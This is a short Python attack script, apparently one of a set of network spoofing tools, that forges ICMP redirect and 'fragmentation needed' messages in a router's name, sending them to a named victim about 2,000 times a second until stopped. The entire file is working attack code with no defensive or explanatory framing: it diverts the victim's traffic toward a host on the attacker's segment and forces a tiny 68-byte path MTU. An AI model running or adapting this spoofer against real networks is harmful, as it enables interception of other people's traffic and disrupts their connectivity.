#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""icmp_spoof.py INTERFACE VICTIM_IP VICTIM_MAC ROUTER_IP ROUTER_MAC PEER_IP: tells the victim some
2,000 times a second, in the router's name and until it is ended, that packets to the peer should go
to a host here (a redirect), and that they are too big for a link of 68 bytes."""

import socket
import struct
import sys

from arp import send_until_ended
from discovery_spoof import checksum


def with_sum(data, at):
    return data[:at] + struct.pack(">H", checksum(data)) + data[at + 2:]


def ipv4(source, destination, protocol, body):
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0x4000, 64, protocol, 0)
    return with_sum(header + source + destination, 10) + body


def main():
    interface, victim_ip, victim_mac, router_ip, router_mac, peer_ip = sys.argv[1:7]
    victim, router, peer = map(socket.inet_aton, (victim_ip, router_ip, peer_ip))
    here = router[:3] + bytes([66])
    there, by = (bytes.fromhex(mac.replace(":", "")) for mac in (victim_mac, router_mac))
    quoted = ipv4(victim, peer, 17, struct.pack(">HHHH", 18515, 18515, 1480, 0))
    redirect = with_sum(struct.pack(">BBH", 5, 1, 0) + here + quoted, 2)
    too_big = with_sum(struct.pack(">BBHHH", 3, 4, 0, 0, 68) + quoted, 2)
    frames = [there + by + b"\x08\x00" + ipv4(router, victim, 1, body)
              for body in (redirect, too_big)]
    send_until_ended(interface, 10 * frames)


if __name__ == "__main__":
    main()
